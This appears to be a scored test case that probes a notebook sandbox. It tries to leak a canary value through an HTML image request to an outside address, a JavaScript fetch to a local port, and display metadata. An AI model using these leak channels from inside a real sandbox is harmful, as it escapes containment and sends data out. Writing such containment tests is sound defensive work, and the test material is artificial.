# tries: displays the data as HTML, as an image's metadata and as JavaScript
# success: the display is outside
# wall: what a cell puts out stays in the sandbox's memory and goes with it; the reply has no field for it
# expect: scored
from IPython.display import HTML, Javascript, display

display(HTML(f"<img src='http://{outside['addresses'][0]}:{outside['tcp']}/{canary}'>"))
display(Javascript(f"fetch('http://127.0.0.1:{outside['tcp']}/{canary}')"))
display({"image/png": canary, "text/plain": canary}, raw=True, metadata={"note": canary}, transient={"note": canary})
